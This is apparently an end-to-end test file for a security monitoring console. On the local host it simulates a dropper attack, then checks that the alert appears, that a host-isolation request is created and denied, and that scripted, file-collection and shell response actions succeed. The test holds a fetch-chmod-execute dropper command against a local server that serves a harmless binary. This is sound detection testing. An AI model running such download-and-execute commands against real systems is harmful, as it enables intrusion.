// The console's main path with a real agent on this host: an attack runs here -> its alert
// appears in the open Workbench without a reload -> open it -> the highlights show the command ->
// isolate the host from the alert page -> Response Management shows the action -> a script and a
// shell run `id` on the host, and Response Management shows them succeeded.
//
// This host is never isolated. Three independent guards: the collector's approval policy makes
// isolate wait for a second person (the test denies it, never approves it); the agent's local
// policy refuses isolate and restore anyway (response.refuse); and the test checks the action is
// cancelled before it goes on. So the isolate request is shown to reach the API and to create the
// action, not to take effect: real isolation is tested in network namespaces
// (test/e2e/isolation.test.ts, and test/console/isolation.test.ts for the console).
// Needs root (the agent's netlink process sensor, as in production), Chromium and the response API.
import { spawnSync, execFile } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { api, enrollAgent, startAgent, startCollector, tempDir, waitFor, type AgentProcess, type CollectorProcess } from '../e2e/harness.js';
import { hasChromium, launch, openTab, poll, shot, signIn, type Tab } from './browser.js';
import { HOST_LOCK_WAIT_MS, lockHostForAttacks } from '../e2e/host-lock.js';

const DROPPER_MODEL = 'c2e3e862-46f3-59aa-b9a9-881667bf83d9'; // xdr_model_dropper_chain (built-in content)
const isRoot = process.getuid?.() === 0;

let c: CollectorProcess;
let agent: AgentProcess;
let browser: Browser;
let http: Server;
let httpPort: number;
let responderToken: string;
let hostname: string;
let hasResponses = false;
const watched = tempDir('console-attack');
const scratch: string[] = [watched];

function sh(script: string, cwd: string): Promise<{ code: number; stderr: string }> {
  return new Promise((done) => {
    execFile('/bin/bash', ['-c', script], { cwd, env: { ...process.env, HOME: cwd, HISTFILE: join(cwd, '.hist') }, timeout: 20_000 },
      (err, _out, stderr) => done({ code: err ? (typeof err.code === 'number' ? err.code : 1) : 0, stderr }));
  });
}

/** The action once it reached a final status (through the API), so that a failure says what happened. */
async function finished(id: string): Promise<Record<string, unknown>> {
  return waitFor(`action ${id} to finish`, async () => {
    const a = (await api(c, `/api/v1/responses/${id}`)).body;
    return ['succeeded', 'failed', 'cancelled', 'expired'].includes(a.status) ? a : undefined;
  }, 90_000, 250);
}

let releaseHostLock: (() => void) | undefined;

beforeAll(async () => {
  if (!isRoot || !hasChromium) return;
  releaseHostLock = await lockHostForAttacks();
  const dataDir = tempDir('console-main');
  scratch.push(dataDir);
  c = await startCollector(dataDir);
  hasResponses = (await api(c, '/api/v1/openapi.json')).body.paths['/api/v1/responses']?.post !== undefined;
  if (!hasResponses) return;
  // guard 1: isolate needs a second person's approval
  const policy = await api(c, '/api/v1/responses/policy', { method: 'PUT', body: { approval_required: ['isolate', 'restore'] } });
  expect(policy.status, JSON.stringify(policy.body)).toBe(200);
  responderToken = (await api(c, '/api/v1/tokens', { method: 'POST', body: { user: 'rita', role: 'responder' } })).body.token;
  expect(responderToken).toMatch(/^xdr_/);

  http = createServer((req, res) => (req.url?.startsWith('/payload') ? res.end(readFileSync('/usr/bin/sleep')) : res.end('hello\n')));
  await new Promise<void>((r) => http.listen(0, '127.0.0.1', r));
  httpPort = (http.address() as AddressInfo).port;

  const stateDir = tempDir('console-agent');
  scratch.push(stateDir);
  const agentId = await enrollAgent(c, stateDir);
  const config = join(stateDir, 'agent.yaml');
  // guard 2: this agent refuses isolation whatever the collector signs
  writeFileSync(config, ['sensors:', '  file:', `    paths: [${watched}]`, '  login:', '    enabled: false', 'response:', '  refuse: [isolate, restore]'].join('\n'));
  agent = startAgent(stateDir, ['--config', config, '--log-level', 'warn']);
  const me = await waitFor('the agent online', async () => (await api(c, '/api/v1/agents')).body.find((a: { id: string; online: boolean }) => a.id === agentId && a.online), 45_000)
    .catch((err: Error) => { throw new Error(`${err.message}; agent log: ${readFileSync(agent.logFile, 'utf8').slice(-2000)}`); });
  hostname = me.hostname;
  const marker = `console-ready-${randomUUID()}`;
  await waitFor('the process sensor', async () => {
    spawnSync('/bin/true', [marker]);
    const r = await api(c, `/api/v1/events?process.args=${marker}&event.action=process_started`);
    return r.body.events?.[0];
  }, 20_000, 1000);
  browser = await launch();
}, 120_000 + HOST_LOCK_WAIT_MS);

afterAll(async () => {
  releaseHostLock?.();
  await browser?.close();
  await agent?.stop();
  await c?.stop();
  await new Promise((r) => (http ? http.close(r) : r(undefined)));
  for (const d of scratch) rmSync(d, { recursive: true, force: true });
});

describe('console main path: attack -> alert -> isolate request -> script and shell', { skip: !isRoot || !hasChromium }, () => {
  it('runs end to end in the browser', async (ctx) => {
    if (!hasResponses) ctx.skip();
    const rita: Tab = await openTab(browser);
    const { page } = rita;
    await signIn(rita, c, responderToken);
    expect(await page.getByTestId('who').textContent()).toContain('rita');
    await page.evaluate('window.marker = 7');

    // the attack: download into /tmp, make it executable, run it, in one shell
    const dir = join(watched, `dropper-${randomUUID().slice(0, 8)}`);
    mkdirSync(dir, { mode: 0o700 });
    const payload = join(dir, 'payload');
    const download = `curl -s -o ${payload} http://127.0.0.1:${httpPort}/payload`;
    const r = await sh(`${download} && chmod +x ${payload} && ${payload} 1; echo done`, dir);
    expect(r.code, r.stderr).toBe(0);

    // its alert (the one whose highlights hold this run's payload: other tests may attack this host too)
    const alert = await waitFor('the dropper alert of this attack', async () => {
      for (const a of (await api(c, `/api/v1/alerts?model=${DROPPER_MODEL}`)).body.alerts ?? []) {
        if (JSON.stringify((await api(c, `/api/v1/alerts/${a.id}`)).body.highlights).includes(payload)) return a;
      }
      return undefined;
    }, 60_000, 500);
    // appears in the open Workbench, without a reload
    const row = page.locator(`[data-testid=alerts] tbody tr[data-alert-id="${alert.id}"]`);
    await row.waitFor({ timeout: 15_000 });
    expect(await row.textContent()).toContain('Dropper');
    expect(await page.evaluate('window.marker')).toBe(7);
    await shot(page, '20-main-workbench');

    // open it: the highlights show the command
    await row.locator('a').click();
    await page.waitForURL(new RegExp(`/alerts/${alert.id}`));
    await poll(() => page.getByTestId('highlights').textContent(), { timeout: 15_000 }).toContain(download);
    await shot(page, '21-main-alert');

    // isolate from the alert page: the confirmation names the host; the action is created and waits for approval
    const host = page.locator(`[data-host="${hostname}"]`);
    await host.locator('[data-action=isolate]').click();
    expect(await page.locator('.dialog-head h2').textContent()).toBe(`Isolate ${hostname}?`);
    await page.getByPlaceholder('e.g. reverse shell seen in alert').fill('dropper alert (console test; never approved)');
    await shot(page, '22-main-isolate-confirm');
    await page.getByTestId('confirm-action').click();
    await page.waitForURL(/\/responses\?focus=/);
    const isolateId = new URL(page.url()).searchParams.get('focus')!;
    const created = (await api(c, `/api/v1/responses/${isolateId}`)).body;
    expect(created).toMatchObject({ action: 'isolate', hostname, status: 'pending_approval', requested_by: 'rita' });
    await poll(() => page.locator(`[data-action-id="${isolateId}"]`).textContent()).toContain('pending approval');
    await shot(page, '23-main-isolate-pending');

    // a second person (the admin) denies it in Response Management; it is cancelled, never sent
    const adminTab = await openTab(browser);
    await signIn(adminTab, c, c.adminToken!, `/responses?focus=${isolateId}`);
    await adminTab.page.getByTestId('action-detail').getByRole('button', { name: 'Deny' }).waitFor();
    adminTab.page.once('dialog', (d) => void d.accept('console test: this host is never isolated'));
    await adminTab.page.getByTestId('action-detail').getByRole('button', { name: 'Deny' }).click();
    await poll(async () => (await api(c, `/api/v1/responses/${isolateId}`)).body.status).toBe('cancelled');
    expect((await api(c, `/api/v1/responses/${isolateId}`)).body.sent_at).toBeNull();
    await shot(adminTab.page, '24-main-isolate-denied');
    await adminTab.context.close();

    // run a script from the alert page: Response Management shows it succeeded with the output
    await page.goto(new URL(`/alerts/${alert.id}`, c.apiUrl).href);
    await host.locator('[data-action=run_script]').click();
    await page.locator('[data-testid=response-dialog] textarea').fill('id');
    await page.getByTestId('confirm-action').click();
    await page.waitForURL(/\/responses\?focus=/);
    const scriptId = new URL(page.url()).searchParams.get('focus')!;
    expect(await finished(scriptId)).toMatchObject({ action: 'run_script', status: 'succeeded' });
    await poll(() => page.locator(`[data-action-id="${scriptId}"]`).textContent()).toContain('succeeded');
    await poll(() => page.getByTestId('action-detail').textContent()).toContain('uid=0(root)');
    await shot(page, '25-main-script-succeeded');

    // collect the dropped payload from the alert page and download it from Response Management
    await page.goto(new URL(`/alerts/${alert.id}`, c.apiUrl).href);
    await host.locator('[data-action=collect_file]').click();
    await page.getByPlaceholder('/etc/passwd').fill(payload);
    await page.getByTestId('confirm-action').click();
    await page.waitForURL(/\/responses\?focus=/);
    const collectId = new URL(page.url()).searchParams.get('focus')!;
    expect(await finished(collectId)).toMatchObject({ action: 'collect_file', status: 'succeeded' });
    await poll(() => page.locator(`[data-action-id="${collectId}"]`).textContent()).toContain('succeeded');
    const [zip] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: /^Download \(zip/ }).click()]);
    expect(readFileSync(await zip.path()).subarray(0, 2).toString()).toBe('PK');
    await shot(page, '25b-main-collect-succeeded');

    // a shell from the alert page: run `id`, see root, exit; the session is recorded
    await page.goto(new URL(`/alerts/${alert.id}`, c.apiUrl).href);
    await host.locator('[data-action=shell]').click();
    await page.getByTestId('confirm-action').click();
    await page.waitForURL(/\/responses\/[^/]+\/shell/);
    const shellId = page.url().split('/').at(-2)!;
    await poll(() => page.getByTestId('shell-phase').textContent(), { timeout: 30_000 }).toBe('connected');
    await page.getByTestId('terminal').click();
    await page.keyboard.type('id\n');
    await poll(() => page.locator('.xterm-rows').textContent(), { timeout: 15_000 }).toContain('uid=0(root)');
    await shot(page, '26-main-shell');
    await page.keyboard.type('exit\n');
    await poll(async () => (await api(c, `/api/v1/responses/${shellId}`)).body.status, { timeout: 20_000 }).toBe('succeeded');
    await page.goto(new URL(`/responses?focus=${shellId}`, c.apiUrl).href);
    await poll(() => page.locator(`[data-action-id="${shellId}"]`).textContent()).toContain('succeeded');
    await page.getByTestId('action-detail').getByRole('button', { name: 'Show transcript' }).click();
    await poll(() => page.getByTestId('transcript').textContent()).toContain('uid=0(root)');
    await shot(page, '27-main-responses');
    expect(rita.problems).toEqual([]);
    await rita.context.close();
  }, 300_000);
});
